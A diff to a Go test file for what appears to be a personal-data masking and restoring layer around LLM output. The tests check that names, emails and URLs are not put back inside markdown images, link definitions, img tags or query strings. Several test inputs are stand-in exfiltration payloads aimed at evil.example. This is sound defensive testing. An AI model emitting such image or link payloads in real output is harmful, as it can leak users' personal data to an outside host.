@@ -229,6 +229,47 @@ func TestStands(t *testing.T) {
 	}
 }
 
+// TestNotIntoLinks holds that nothing is put back into what a reader's program would follow or
+// load, and nothing that would be such a thing itself, wherever the text is cut.
+func TestNotIntoLinks(t *testing.T) {
+	c := cover("c")
+	url, mail := c.Hide("pii.url", "https://evil.example/p.png?u=anna", Placeholder, false), c.Hide("pii.email", "anna@example.org", Placeholder, false)
+	img := c.Hide("ticket", "TICKET![x](https://evil.example/d)", Placeholder, false)
+	tag := c.Hide("ticket", "TICKET<img/src=https://evil.example>", Placeholder, false)
+	for text, put := range map[string]bool{
+		"see " + url + " there": true, "mail " + mail + ".": true, "(" + mail + ")": true, "a [link](https://x.org) and " + mail: true, "<b>x</b> " + mail: true, "1 < 2, " + mail: true,
+		"![x](" + url + ")": false, "![x]( " + url + " )": false, "[x]: " + url: false, "[x]:\n" + url: false, "<img src=" + url + ">": false, "<img\nsrc = '" + mail + "'>": false,
+		"https://evil.example/?d=" + mail: false, "\"![x](" + mail + ")": false, "![x](https://e.example/a b " + mail + ")": false,
+		"see " + img: false, "see " + tag: false,
+	} {
+		text = strings.ReplaceAll(text, `\n`, "\n")
+		for cut := range len(text) + 1 {
+			c.Count = Count{}
+			got := restore(t, c.Restorer(all), llm.Channel{Item: cut}, []string{text[:cut], text[cut:]})
+			if (got != text) != put || put != (c.Count.Restored == 1) || put == (c.Count.Withheld == 1) {
+				t.Fatalf("%q cut at %d became %q, %+v", text, cut, got, c.Count)
+			}
+		}
+	}
+	rule, err := c.Restorer(all).Scan(context.Background(), llm.Look{Channel: llm.Channel{Kind: llm.KindArgs}, Text: `{"url":"https://x.org/?u=` + mail + `"}`, Final: true})
+	if err != nil || len(rule.Changes) != 1 {
+		t.Errorf("%+v, %v", rule, err)
+	}
+}
+
+// TestAlso holds that a value of several kinds is put back only for who may see all of them.
+func TestAlso(t *testing.T) {
+	c := cover("c")
+	p := c.Hide("pii.url", "https://x.org/?q=anna@example.org", Placeholder, false)
+	c.Also("pii.url", "https://x.org/?q=anna@example.org", []string{"pii.email"})
+	if got := restore(t, c.Restorer(func(kind string) bool { return kind != "pii.email" }), llm.Channel{}, []string{p}); got != p {
+		t.Error(got)
+	}
+	if got := restore(t, c.Restorer(all), llm.Channel{}, []string{p}); got == p {
+		t.Error("it was not put back")
+	}
+}
+
 func TestFakes(t *testing.T) {
 	rng := rand.New(rand.NewPCG(1, 2))
 	for i := range 400 {
@@ -303,6 +344,16 @@ func TestSweep(t *testing.T) {
 	}
 	if want := "[1 5 Anna Keller 1 41 Anna Keller 2 12 王小明]"; fmt.Sprint(got) != want {
 		t.Errorf("%v, want %s", got, want)
+	}
+	// A longer value that is only the beginning of a word hides no shorter one.
+	met := []llm.Passage{{Text: "Anna Lee, Anna"}, {Text: "met Anna Leeds and Anna"}}
+	if n := len(c.Sweep(met, []Place{{Passage: 0, Start: 0, End: 8, Kind: "pii.person"}, {Passage: 0, Start: 10, End: 14, Kind: "pii.person"}})); n != 2 {
+		t.Errorf("%d places of two", n)
+	}
+	// What repeats itself costs no more than its length.
+	long := strings.Repeat("a ", 100) + "b"
+	if n := len(c.Sweep([]llm.Passage{{Text: long}, {Text: strings.Repeat("a ", 200_000) + long}, {Text: strings.Repeat("1", 400_000)}}, []Place{{Passage: 0, Start: 0, End: len(long), Kind: "x"}})); n != 1 {
+		t.Errorf("%d places of one", n)
 	}
 	if c.Sweep(passages, nil) != nil {
 		t.Error("nothing was found again")
